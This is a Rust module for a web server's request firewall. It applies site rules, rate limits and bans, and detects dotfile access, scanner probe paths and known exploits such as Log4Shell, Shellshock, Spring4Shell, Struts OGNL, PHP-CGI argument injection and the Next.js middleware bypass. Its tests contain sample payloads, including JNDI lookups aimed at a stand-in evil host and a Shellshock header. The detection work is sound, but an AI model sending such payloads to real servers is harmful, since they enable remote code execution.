//! Who is refused before anything of the site is looked at: by a rule, by a set of known attacks, or for asking too often.

use std::{borrow::Cow, cell::OnceCell, net::IpAddr, time::Duration};

use hyper::{
    HeaderMap,
    header::{CONTENT_TYPE, HeaderName, HeaderValue, USER_AGENT},
    http::request::Parts,
};
use percent_encoding::percent_decode_str;
use unicode_normalization::UnicodeNormalization as _;

use super::{super::page::Refusal, Gate};
use crate::{
    base::{
        countries::{self, Countries},
        country::Country,
        network,
    },
    domain::{
        policy,
        site_settings::{
            firewall::{Action, Firewall, Rule, Set},
            limits::{Limits, Per},
        },
    },
    http::secret_path,
    serve::rates::Pace,
};

/// How a shell writes a function, which old ones run when it comes in a variable.
const FUNCTION: &[u8] = b"() {";
/// What Next.js tells itself, and believed of others.
const INSIDE: &str = "x-middleware-subrequest";
/// One line in the log for each rule in this time: whoever floods a site does not flood the log.
const TOLD: Pace = Pace { times: 1, every: Duration::from_mins(1) };

/// Why this request is refused, if it is.
pub(super) fn refused(gate: &Gate<'_>) -> Option<Refusal> {
    let (limits, firewall) = (&gate.settings.limits, &gate.settings.firewall);
    if *limits == Limits::default() && *firewall == Firewall::default() {
        return None;
    }
    let client = gate.asked.client().address;
    if limits.exempt.iter().any(|it| it.contains(client)) {
        return None;
    }
    let seen = Seen::new(gate.asked.parts, gate.countries);
    let Some(refusal) = by_rule(gate, &seen, client).or_else(|| by_rate(gate, &seen, client, Per::Address)) else {
        // What all visitors have used up together is nobody's own fault.
        return by_rate(gate, &seen, client, Per::Site);
    };
    // A proxy that is believed, and this machine itself, where one may stand that is not named, speak for many.
    let is_many = client.is_loopback() || gate.asked.trust.proxies.iter().any(|it| it.contains(client));
    if let Some(ban) = limits.ban.filter(|_| !is_many) {
        let pace = Pace { times: ban.after, every: Duration::from_secs(ban.within_s.into()) };
        // The last refusal that is borne is the one before the number that is set.
        let borne = Pace { times: pace.times.saturating_sub(1), ..pace };
        let key = ("strike", network::counted(client));
        if borne.times == 0 || gate.rates.take(gate.target.site, key, borne).is_err() {
            gate.bans.make(gate.target.site, client, Duration::from_secs(ban.for_s.into()));
        }
    }
    Some(refusal)
}

/// Whether a rule refuses a request that was let in before. Nothing is counted or told.
pub(super) fn is_blocked(gate: &Gate<'_>) -> bool {
    let (limits, firewall) = (&gate.settings.limits, &gate.settings.firewall);
    if *firewall == Firewall::default() {
        return false;
    }
    let client = gate.asked.client().address;
    if limits.exempt.iter().any(|it| it.contains(client)) {
        return false;
    }
    let seen = Seen::new(gate.asked.parts, gate.countries);
    let decided =
        fitting(firewall, &seen, client).map(|it| it.1).find(|it| matches!(it, Action::Allow | Action::Block));
    decided == Some(Action::Block)
}

/// Whether [`is_blocked`] reads a header.
pub(super) fn looks_at(name: &HeaderName, value: &HeaderValue) -> bool {
    let bytes = value.as_bytes();
    *name == USER_AGENT
        || name == INSIDE
        || bytes.trim_ascii_start().starts_with(FUNCTION)
        || bytes.windows(2).any(|it| matches!(it, b"${" | b"%{"))
}

/// The rules and sets that a request fits, in their order.
fn fitting<'f>(firewall: &'f Firewall, seen: &Seen<'_>, client: IpAddr) -> impl Iterator<Item = (&'f str, Action)> {
    let rules = firewall.rules.iter().filter(move |it| seen.fits(it, client)).map(|it| (it.name.as_str(), it.action));
    let sets = firewall.sets.iter().filter(|it| seen.is_of(**it)).map(|it| (word(*it), firewall.sets_do));
    rules.chain(sets)
}

fn by_rule(gate: &Gate<'_>, seen: &Seen<'_>, client: IpAddr) -> Option<Refusal> {
    for (name, action) in fitting(&gate.settings.firewall, seen, client) {
        if action == Action::Allow {
            return None;
        }
        if gate.rates.take(gate.target.site, ("told", name), TOLD).is_ok() {
            let (site, path) = (&gate.target.name, secret_path::shown(gate.asked.parts.uri.path()));
            tracing::info!(%site, rule = name, %client, %path, ?action, "a request fits a rule of the site; the next ones of this minute are not told");
        }
        if action == Action::Block {
            return Some(Refusal::Blocked);
        }
    }
    None
}

/// Those of each address come first: who is refused by them uses up nothing of what all visitors have together.
fn by_rate(gate: &Gate<'_>, seen: &Seen<'_>, client: IpAddr, per: Per) -> Option<Refusal> {
    let mut longest = None;
    for rate in gate.settings.limits.rates.iter().filter(|it| it.per == per) {
        if !seen.is_method(&rate.methods) || !policy::fits(&rate.path, &seen.path) {
            continue;
        }
        let who = match rate.per {
            Per::Address => Some(network::counted(client)),
            Per::Site => None,
        };
        let pace = Pace { times: rate.requests, every: Duration::from_secs(rate.every_s.into()) };
        let key = (rate.path.as_str(), &rate.methods, rate.requests, rate.every_s, who);
        longest = longest.max(gate.rates.take(gate.target.site, key, pace).err());
    }
    longest.map(Refusal::TooMany)
}

const fn word(set: Set) -> &'static str {
    match set {
        Set::Dotfiles => "dotfiles",
        Set::Probes => "probes",
        Set::Exploits => "exploits",
    }
}

/// A request as rules look at it.
struct Seen<'a> {
    parts: &'a Parts,
    /// Decoded as far as it can be, in small letters, each row of slashes as one: what hides behind a way of writing is seen.
    path: String,
    countries: &'a Countries,
    /// Where it comes from, once a rule has asked.
    country: OnceCell<Option<Country>>,
}

impl<'a> Seen<'a> {
    fn new(parts: &'a Parts, countries: &'a Countries) -> Self {
        let decoded = percent_decode_str(parts.uri.path()).decode_utf8_lossy();
        let mut path = String::with_capacity(decoded.len());
        // Composed, as names of files are found.
        for letter in decoded.nfc() {
            let letter = if letter == '\\' { '/' } else { letter.to_ascii_lowercase() };
            if letter != '/' || !path.ends_with('/') {
                path.push(letter);
            }
        }
        Self { parts, path, countries, country: OnceCell::new() }
    }

    fn query(&self) -> &'a str {
        self.parts.uri.query().unwrap_or_default()
    }

    fn is_method(&self, methods: &[String]) -> bool {
        methods.is_empty() || methods.iter().any(|it| it == self.parts.method.as_str())
    }

    fn fits(&self, rule: &Rule, client: IpAddr) -> bool {
        self.is_method(&rule.methods)
            && (rule.from.is_empty() || rule.from.iter().any(|it| it.contains(client)))
            && rule.query_has.as_ref().is_none_or(|it| self.has_query(it))
            && rule.agent_has.as_ref().is_none_or(|it| self.is_agent(it))
            && policy::fits(&rule.path, &self.path)
            && self.is_from(rule, client)
    }

    /// Whether a rule for countries is for this one. What is of no country in any database is elsewhere, and a network inside is nowhere:
    /// else a rule for all but a few would lock out who looks from the next room. Without a database no such rule fits.
    fn is_from(&self, rule: &Rule, client: IpAddr) -> bool {
        if rule.countries.is_empty() && rule.not_countries.is_empty() {
            return true;
        }
        if !self.countries.is_known() {
            return false;
        }
        let country = *self.country.get_or_init(|| self.countries.find(client));
        let is_of = |all: &[Country]| country.is_some_and(|it| all.contains(&it));
        if rule.not_countries.is_empty() {
            return is_of(&rule.countries);
        }
        !is_of(&rule.not_countries) && (country.is_some() || !countries::is_inside(client))
    }

    fn has_query(&self, part: &str) -> bool {
        let query = self.query();
        query.contains(part) || percent_decode_str(query).decode_utf8_lossy().contains(part)
    }

    fn is_agent(&self, part: &str) -> bool {
        let agent = text(&self.parts.headers, &USER_AGENT);
        if part.is_empty() { agent.is_empty() } else { agent.to_ascii_lowercase().contains(&part.to_ascii_lowercase()) }
    }

    fn is_of(&self, set: Set) -> bool {
        match set {
            Set::Dotfiles => self.is_dotfile(),
            Set::Probes => self.is_probe(),
            Set::Exploits => self.is_exploit(),
        }
    }

    fn is_dotfile(&self) -> bool {
        self.path.split('/').any(|it| it.len() > 1 && it.starts_with('.') && !matches!(it, ".." | ".well-known"))
    }

    fn is_probe(&self) -> bool {
        PROBES.iter().any(|it| match it.strip_suffix('/') {
            Some(folder) => self.path.starts_with(it) || self.path.strip_prefix(folder).is_some_and(str::is_empty),
            None => self.path == *it,
        })
    }

    fn is_exploit(&self) -> bool {
        let query = percent_decode_str(self.query()).decode_utf8_lossy().to_ascii_lowercase();
        let headers = &self.parts.headers;
        let lookup = |it: &str| asks_jndi(it);
        lookup(&self.path)
            || lookup(&query)
            || headers.values().any(|it| {
                let value = String::from_utf8_lossy(it.as_bytes());
                value.as_bytes().trim_ascii_start().starts_with(FUNCTION)
                    || (value.contains("${") && lookup(&value.to_ascii_lowercase()))
            })
            || query.contains("class.module.classloader")
            || ["%{", "${"].iter().any(|it| text(headers, &CONTENT_TYPE).contains(it))
            || self.is_php_cgi()
            || headers.contains_key(INSIDE)
    }

    /// A query without `=` that begins with a hyphen, or with the soft one that a Windows code page makes a hyphen of, is a switch
    /// of the command line for a PHP that runs as CGI.
    fn is_php_cgi(&self) -> bool {
        let query = self.query().to_ascii_lowercase();
        let is_switch = ["-", "%2d", "%ad", "%c2%ad"].iter().any(|it| query.starts_with(it));
        is_switch && (self.path.contains(".php") || self.path.contains("php-cgi"))
    }
}

/// What scanners look for: files and, with a slash behind, folders.
const PROBES: [&str; 22] = [
    "/_ignition/execute-solution",
    "/actuator/",
    "/adminer.php",
    "/boaform/",
    "/cgi-bin/",
    "/config.json.bak",
    "/debug/default/view",
    "/geoserver/",
    "/hnap1/",
    "/jenkins/",
    "/phpinfo.php",
    "/phpmyadmin/",
    "/pma/",
    "/server-status",
    "/shell",
    "/solr/",
    "/telescope/requests",
    "/vendor/phpunit/",
    "/wp-admin/",
    "/wp-config.php",
    "/wp-login.php",
    "/xmlrpc.php",
];

/// Whether a text in small letters has Log4j look something up by JNDI, also where other lookups spell the word.
fn asks_jndi(text: &str) -> bool {
    let Some(begin) = text.find("${") else { return false };
    let mut rest: Cow<'_, str> = Cow::Borrowed(text.get(begin..).unwrap_or_default());
    // The innermost lookups stand for their last part, `${lower:j}` and `${env:x:-j}` for `j`. Each round resolves one; a few hide a word already.
    for _ in 0..LOOKUPS_MAX {
        if rest.contains("${jndi:") {
            return true;
        }
        let Some(open) = rest.rfind("${") else { return false };
        let Some(inner) = rest.get(open + 2..) else { return false };
        let Some(close) = inner.find('}') else {
            // Begun and not ended: what is before it may still be one.
            rest = Cow::Owned(rest.get(..open).unwrap_or_default().to_owned());
            continue;
        };
        let (word, behind) = (inner.get(..close).unwrap_or_default(), inner.get(close + 1..).unwrap_or_default());
        let stands_for = word.rsplit_once(":-").or_else(|| word.rsplit_once(':')).map_or(word, |(_, last)| last);
        rest = Cow::Owned(format!("{}{stands_for}{behind}", rest.get(..open).unwrap_or_default()));
    }
    // Nobody writes so many by accident.
    true
}

/// Lookups within one another, or one behind the other, that are resolved to see what they hide.
const LOOKUPS_MAX: usize = 64;

fn text<'h>(headers: &'h HeaderMap, name: &HeaderName) -> &'h str {
    headers.get(name).and_then(|it| it.to_str().ok()).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use hyper::Request;

    use super::*;

    fn parts(uri: &str, headers: &[(&str, &str)]) -> Parts {
        let mut request = Request::builder().uri(uri);
        for (name, value) in headers {
            request = request.header(*name, *value);
        }
        request.body(()).unwrap().into_parts().0
    }

    #[test]
    fn known_attacks_are_known_and_what_visitors_ask_is_none() {
        for (set, uri, headers, wanted) in [
            (Set::Dotfiles, "/.env", &[][..], true),
            (Set::Dotfiles, "/a/.GIT/config", &[], true),
            (Set::Dotfiles, "/%2eenv", &[], true),
            (Set::Dotfiles, "//.env.production", &[], true),
            (Set::Dotfiles, "/a%5c.env", &[], true),
            (Set::Dotfiles, "/.well-known/security.txt", &[], false),
            (Set::Dotfiles, "/a.env", &[], false),
            (Set::Dotfiles, "/a/./b/../c", &[], false),
            (Set::Probes, "/WP-login.php", &[], true),
            (Set::Probes, "//wp-admin/setup-config.php", &[], true),
            (Set::Probes, "/wp-admin", &[], true),
            (Set::Probes, "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", &[], true),
            (Set::Probes, "/wp-content/uploads/photo.jpg", &[], false),
            (Set::Probes, "/blog/wp-login.php-explained", &[], false),
            (Set::Probes, "/", &[], false),
            (Set::Exploits, "/", &[("user-agent", "${jndi:ldap://evil.example/a}")], true),
            (Set::Exploits, "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", &[], true),
            (Set::Exploits, "/", &[("x-api", "${${lower:j}${upper:n}d${::-i}:ldap://e}")], true),
            (Set::Exploits, "/", &[("x-api", "${${env:NaN:-j}ndi${env:NaN:-:}rmi://e}")], true),
            (Set::Exploits, "/?price=${amount}", &[("user-agent", "curl/8 ${version}")], false),
            (Set::Exploits, "/cgi", &[("user-agent", "() { :; }; echo x")], true),
            (Set::Exploits, "/?class.module.classLoader.resources.context.parent.pipeline=x", &[], true),
            (Set::Exploits, "/", &[("content-type", "%{(#nike='multipart/form-data')}")], true),
            (Set::Exploits, "/index.php?-d+allow_url_include%3d1", &[], true),
            (Set::Exploits, "/index.php?%ADd+allow_url_include%3d1", &[], true),
            (Set::Exploits, "/search?-negative", &[], false),
            (Set::Exploits, "/admin", &[("x-middleware-subrequest", "middleware")], true),
            (Set::Exploits, "/?class=module&q=jndi", &[("content-type", "multipart/form-data")], false),
        ] {
            let mut parts = parts(uri, headers);
            assert_eq!(Seen::new(&parts, &Countries::none()).is_of(set), wanted, "{set:?} {uri} {headers:?}");
            // What is open is looked at again with what was kept of its head.
            parts.headers = super::super::looked_at(&parts.headers);
            assert_eq!(Seen::new(&parts, &Countries::none()).is_of(set), wanted, "kept: {set:?} {uri} {headers:?}");
        }
    }

    #[test]
    fn a_rule_fits_what_fits_all_that_it_names() {
        let rule = |more: &str| serde_json::from_str::<Rule>(&format!("{{\"name\":\"a\"{more}}}")).unwrap();
        let client = "192.0.2.1".parse().unwrap();
        for (more, uri, headers, wanted) in [
            (r#","path":"/admin/*""#, "/ADMIN/x", &[][..], true),
            (r#","path":"/admin/*""#, "//admin//x", &[], true),
            (r#","path":"/admin/*""#, "/%61dmin/x", &[], true),
            (r#","path":"/admin/*""#, "/administration", &[], false),
            (r#","path":"/admin/*","methods":["POST"]"#, "/admin/x", &[], false),
            (r#","methods":["GET"],"path":"/a""#, "/a", &[], true),
            (r#","agent_has":"badbot""#, "/", &[("user-agent", "Mozilla/5.0 BadBot/1")], true),
            (r#","agent_has":"badbot""#, "/", &[], false),
            (r#","agent_has":"""#, "/", &[], true),
            (r#","agent_has":"""#, "/", &[("user-agent", "x")], false),
            (r#","query_has":"debug=1""#, "/?a&debug=1", &[], true),
            (r#","query_has":"debug=1""#, "/?a", &[], false),
            (r#","query_has":"debug=1""#, "/?debug=%31", &[], true),
            (r#","path":"/caf\u00e9/*""#, "/cafe%CC%81/x", &[], true),
            (r#","from":["192.0.2.0/24"]"#, "/", &[], true),
            (r#","from":["198.51.100.0/24"]"#, "/", &[], false),
        ] {
            let mut parts = parts(uri, headers);
            assert_eq!(Seen::new(&parts, &Countries::none()).fits(&rule(more), client), wanted, "{more} {uri}");
            parts.headers = super::super::looked_at(&parts.headers);
            assert_eq!(Seen::new(&parts, &Countries::none()).fits(&rule(more), client), wanted, "kept: {more} {uri}");
        }
    }

    #[test]
    fn a_text_full_of_lookups_is_read_in_bounded_time() {
        for (text, wanted) in [
            ("${".repeat(4_000), true),
            (format!("{}{}", "${a:".repeat(4_000), "}".repeat(4_000)), true),
            ("${a} ".repeat(20), false),
            (format!("${{${{lower:j}}ndi:ldap://e}}{}", "${a}".repeat(4_000)), true),
            (String::from("${${lower:j}ndi:ldap://e}${"), true),
            (String::from("${${"), false),
        ] {
            assert_eq!(asks_jndi(&text), wanted, "{text:.40}");
        }
    }
}
